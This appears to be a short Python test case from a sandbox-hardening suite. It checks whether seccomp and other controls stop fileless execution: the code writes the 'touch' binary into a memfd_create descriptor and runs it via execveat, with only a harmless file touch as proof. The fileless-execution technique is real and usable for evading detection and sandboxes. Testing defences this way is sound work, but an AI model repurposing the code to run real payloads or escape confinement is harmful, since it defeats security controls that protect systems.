# title: run a program that is in no file, from an anonymous descriptor
# reference: https://magisterquis.github.io/2018/03/31/in-memory-only-elf-execution.html
# real: killed: seccomp
# weakened: seccomp, landlock, mount_ns, rlimits, mdwe
# proof: touched

import ctypes
import os


def attack(worker):
    memory = worker.syscall("memfd_create", b"x", 0)
    with open("/usr/bin/touch", "rb") as program:
        os.write(memory, program.read())
    arguments = (ctypes.c_char_p * 3)(b"touch", worker.touched.encode(), None)
    nothing = (ctypes.c_char_p * 1)(None)
    worker.syscall("execveat", memory, b"", arguments, nothing, 0x1000)
